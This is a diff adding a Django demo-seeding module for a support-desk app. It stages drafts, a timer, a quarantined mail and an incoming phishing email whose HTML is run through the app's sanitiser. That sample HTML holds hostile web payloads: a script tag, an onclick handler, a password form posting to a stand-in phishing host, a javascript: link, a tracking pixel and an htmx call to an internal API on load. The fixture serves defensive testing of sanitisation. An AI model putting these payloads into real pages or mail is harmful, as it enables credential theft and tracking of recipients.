@@ -1,0 +1,112 @@
+"""The last minutes before the visitor comes: drafts, a running timer, a mail that could not be read, a hostile one."""
+
+from datetime import datetime, timedelta
+
+from django.conf import settings
+from django.db.models import F
+
+from support_desk.demo.letters import Letter, keep_raw
+from support_desk.demo.stage import MAIL, Stage
+from support_desk.shared.models import OutboxItem
+from support_desk.shared.viewer import Viewer
+from tickets.actions.drafts import save_draft
+from tickets.actions.handling import mark_read
+from tickets.actions.locks import lock_ticket
+from tickets.actions.logging_time import start_timer
+from tickets.actions.messages import add_message
+from tickets.actions.opening import open_ticket
+from tickets.domain.mail.sanitise import clean_html
+from tickets.models import Channel, Draft, Message, RawMail, Ticket
+
+HOSTILE = """<div onclick="steal()" style="position:fixed;inset:0;background:red">
+<script>document.title = "taken over"</script>
+<form action="https://phishing.test/login" method="post">Your mailbox is full, log in: <input name="password"></form>
+<p>You have <b>won</b>! <a href="javascript:alert(1)">Open</a> or <a href="https://phishing.test/">read more</a>.</p>
+<img src="https://phishing.test/pixel.gif?who=you" hx-get="/api/v1/clients/" hx-trigger="load">
+<iframe src="https://phishing.test/"></iframe></div>"""
+
+
+def finish(stage: Stage, *, at: datetime) -> None:
+    remember_what_was_read(stage)
+    leave_drafts(stage, at=at)
+    run_timer(stage, at=at)
+    receive_hostile_mail(stage, at=at - timedelta(minutes=50))
+    quarantine_one(stage, at=at - timedelta(hours=2))
+    settle_past_mail()
+
+
+def remember_what_was_read(stage: Stage) -> None:
+    tickets = Ticket.objects.in_bulk({pk for pk, _login in stage.reads})
+    for (pk, login), at in stage.reads.items():
+        mark_read(ticket=tickets[pk], by=stage.staff.viewer(login, at), at=at)
+
+
+def leave_drafts(stage: Stage, *, at: datetime) -> None:
+    """Two managers were called away while writing."""
+    for number, login in enumerate(("manager", "manager2")):
+        viewer = stage.staff.viewer(login, at)
+        ticket = Ticket.objects.visible_to(viewer).unanswered().order_by("waiting_since").first()
+        if ticket is not None:
+            first = (ticket.requester_name or "").split(" ")[0]
+            body = stage.content.words["drafts"][number].format(contact_first=first)
+            save_draft(ticket=ticket, kind=Draft.Kind.REPLY, body=body, by=viewer, at=at, version=0)
+
+
+def run_timer(stage: Stage, *, at: datetime) -> None:
+    viewer = stage.staff.viewer("manager", at)
+    ticket = Ticket.objects.visible_to(viewer).live().order_by("-last_message_at").first()
+    if ticket is not None:
+        start_timer(ticket=ticket, by=viewer, at=at - timedelta(minutes=25))
+
+
+def receive_hostile_mail(stage: Stage, *, at: datetime) -> None:
+    """Nothing in it acts: the desk shows what the sanitiser leaves."""
+    system = Viewer.system(at, MAIL)
+    text = "Your mailbox is full, log in. You have won! Open or read more."
+    letter = Letter(
+        "Prize Centre", "prize@phishing.test", "You have won", text, stage.next_mail_id("phishing.test"), html=HOSTILE
+    )
+    ticket = open_ticket(
+        subject=letter.subject,
+        by=system,
+        at=at,
+        channel=Channel.EMAIL,
+        requester_name=letter.sender,
+        requester_address=letter.address,
+        department=stage.staff.departments["support"],
+    )
+    add_message(
+        ticket=lock_ticket(ticket, by=system),
+        direction=Message.Direction.INBOUND,
+        channel=Channel.EMAIL,
+        by=system,
+        at=at,
+        author_name=letter.sender,
+        author_address=letter.address,
+        body_text=text,
+        body_html=clean_html(HOSTILE).html,
+        raw_mail=keep_raw(letter, mailbox=stage.mailbox, at=at, outcome="lead"),
+        mail_id=letter.mail_id,
+    )
+
+
+def quarantine_one(stage: Stage, *, at: datetime) -> None:
+    """Parts in parts in parts: kept as it came, for the operator to decide."""
+    letter = Letter("Scanner", "scanner@post.test", "Scan 0001", "", stage.next_mail_id("post.test"))
+    keep_raw(
+        letter,
+        mailbox=stage.mailbox,
+        at=at,
+        outcome="quarantined",
+        state=RawMail.State.QUARANTINED,
+        reason="nested_too_deeply",
+        detail="The parts of the mail are nested too deeply.",
+        attempts=1,
+    )
+
+
+def settle_past_mail() -> None:
+    """The demo's past was sent in the past: nothing of it leaves now."""
+    pending = OutboxItem.objects.filter(state=OutboxItem.State.PENDING)
+    pending.update(state=OutboxItem.State.SENT, attempts=1, sent_at=F("available_at"))
+    assert settings.DEMO
